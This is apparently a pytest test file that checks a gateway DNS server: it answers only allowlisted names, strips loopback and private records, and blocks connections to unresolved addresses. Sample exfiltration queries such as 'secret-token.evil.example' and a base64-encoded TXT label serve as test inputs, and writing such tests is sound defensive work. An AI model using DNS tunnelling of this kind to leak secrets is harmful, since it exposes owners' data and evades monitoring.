"""The gateway's DNS server: allowlisted names only, nothing else forwarded (no exfiltration)."""

from __future__ import annotations

import socket
from collections.abc import Iterator

import dns.exception
import dns.message
import dns.query
import dns.rcode
import dns.rdatatype
import pytest
from gateway_env import DNS_ADDR, GW_ADDR, OTHER_ADDR, WWW_ADDR, Env, fake_internet

pytestmark = [pytest.mark.netns, pytest.mark.root]


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Env]:
    with fake_internet(tmp_path_factory.mktemp("dns")) as e:
        yield e


def ask(
    env: Env, name: str, rdtype: str = "A", *, tcp: bool = False, server: str = GW_ADDR, timeout: float = 3
) -> dns.message.Message:
    """A query from the bot's namespace (the socket is made there)."""
    q = dns.message.make_query(name, rdtype)
    if tcp:
        with env.sock(env.bot) as s:
            s.connect((server, 53))
            return dns.query.tcp(q, server, timeout=3, sock=s)
    with env.sock(env.bot, socket.SOCK_DGRAM) as s:
        s.settimeout(timeout)
        return dns.query.udp(q, server, timeout=timeout, sock=s)


def addresses(reply: dns.message.Message) -> list[str]:
    return [rd.address for rrset in reply.answer if rrset.rdtype == dns.rdatatype.A for rd in rrset]


def test_allowlisted_name_is_answered(env: Env) -> None:
    reply = ask(env, "www.allowed.test")
    assert reply.rcode() == dns.rcode.NOERROR
    assert addresses(reply) == [WWW_ADDR]
    assert addresses(ask(env, "WWW.Allowed.Test.", tcp=True)) == [WWW_ADDR]
    assert addresses(ask(env, "a.wild.test")) == [WWW_ADDR]
    assert env.dns is not None and "www.allowed.test" in env.dns.asked  # positive control
    no6 = ask(env, "www.allowed.test", "AAAA")
    assert no6.rcode() == dns.rcode.NOERROR and not no6.answer


def test_secret_bearing_name_never_reaches_upstream(env: Env) -> None:
    assert env.dns is not None
    for name, rdtype in (
        ("secret-token.evil.example", "A"),
        ("c2VjcmV0.other.test", "TXT"),
        ("other.test", "A"),
        ("allowed.test", "A"),  # the apex of a wildcard is not covered
        ("x.www.allowed.test", "A"),
    ):
        reply = ask(env, name, rdtype)
        assert reply.rcode() == dns.rcode.NXDOMAIN, name
        assert not reply.answer
    over_tcp = ask(env, "secret-token.evil.example", tcp=True)
    assert over_tcp.rcode() == dns.rcode.NXDOMAIN
    asked = set(env.dns.asked)
    assert not asked & {"secret-token.evil.example", "c2vjcmv0.other.test", "other.test", "allowed.test"}
    assert env.wait_row(
        lambda r: r["kind"] == "dns" and r["host"] == "secret-token.evil.example", denied=True
    )
    # The bot cannot ask the real resolver itself either (only the gateway is routed).
    with pytest.raises((dns.exception.Timeout, TimeoutError)):
        ask(env, "secret-token.evil.example", server=DNS_ADDR, timeout=1)
    assert "secret-token.evil.example" not in env.dns.asked


def test_private_answers_are_withheld(env: Env) -> None:
    for name in ("loopy.allowed.test", "tenx.allowed.test", "meta.allowed.test"):
        reply = ask(env, name)
        assert addresses(reply) == [], name
    mixed = ask(env, "mixed.allowed.test")
    assert addresses(mixed) == [WWW_ADDR]  # the loopback record is cut out
    assert env.wait_row(lambda r: r["kind"] == "dns" and "loopback" in r["reason"], denied=True)


def test_other_ports_use_the_name_the_dns_gave(env: Env) -> None:
    """Port 8443 carries no name the gateway trusts; it uses the (bot, address) -> name map."""
    ok = env.curl("--noproxy", "*", "https://www.allowed.test:8443/port")
    assert ok.returncode == 0, ok.stderr
    assert f"hello from {WWW_ADDR}:8443" in ok.stdout
    # An address the gateway's DNS never gave this bot: reset, although a server listens there.
    outside = env.curl("-k", f"https://{OTHER_ADDR}:8443/", ns=env.up)
    assert outside.returncode == 0  # positive control
    refused = env.curl("--noproxy", "*", "-k", f"https://{OTHER_ADDR}:8443/")
    assert refused.returncode != 0 and "hello" not in refused.stdout
    assert env.wait_row(lambda r: "not resolved through the gateway's DNS" in r["reason"], denied=True)


def test_unknown_source_is_refused(env: Env) -> None:
    assert env.gateway is not None and env.gateway.dns is not None
    wire = dns.message.make_query("www.allowed.test", "A").to_wire()
    reply = env.gateway.dns.answer(wire, "10.213.9.9")
    assert reply is not None
    assert dns.message.from_wire(reply).rcode() == dns.rcode.REFUSED
